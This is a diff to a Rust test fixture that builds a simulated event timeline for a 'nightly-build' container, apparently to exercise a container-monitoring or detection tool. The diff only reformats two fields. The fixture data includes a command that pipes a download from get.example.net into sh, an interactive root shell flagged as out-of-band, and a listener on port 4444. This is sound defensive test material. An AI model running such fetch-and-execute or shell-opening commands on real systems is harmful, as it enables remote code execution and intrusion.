@@ -103,7 +103,7 @@ fn tell_a_story(journal: &Path) {
     let launched = 95_000_000;
     let at = |micros: i64| ago(launched - micros);
     let timeline = json!([
-        {"at": at(-412_000), "what": "create", "record": "01a20c4e-7d11-7c3e-9a5b-3f7d2c1e0b4a", "principal": {"name": "ci"}},
+        {"at": at(-412_000), "what": "create", "record": "01a20c4e-7d11-7c3e-9a5b-3f7d2c1e0b4a", "principal": "ci"},
         {"at": at(0), "what": "start", "record": "01a20c4e-7f22-7a10-8c41-77aa02e91b55", "principal": {"name": "ci"}},
         {"at": at(61_200), "what": "process", "pid": 41_822, "uid": 0, "path": "/bin/sh", "first": true,
             "argv": ["/bin/sh", "-c", "apk add curl && curl -fsSL https://get.example.net/x | sh"]},
@@ -117,7 +117,7 @@ fn tell_a_story(journal: &Path) {
             "process": {"pid": 41_861, "path": "/usr/bin/curl"}},
         {"at": at(21_400_000), "what": "exec", "pid": 41_990, "uid": 0, "path": "/bin/sh", "argv": ["sh", "-i"], "out_of_band": true},
         {"at": at(22_050_000), "what": "listen", "protocol": "tcp", "local": "0.0.0.0:4444", "process": {"pid": 41_990}},
-        {"at": at(38_000_000), "what": "die", "status": "137"}
+        {"at": at(38_000_000), "what": "die", "code": 137}
     ]);
     let about = json!({"v": 1, "host": "build-7", "container": {"id": STORY, "name": "nightly-build"},
         "image": {"reference": "docker.io/library/alpine:latest", "allowed": false}, "principal": {"name": "ci", "admin": false},
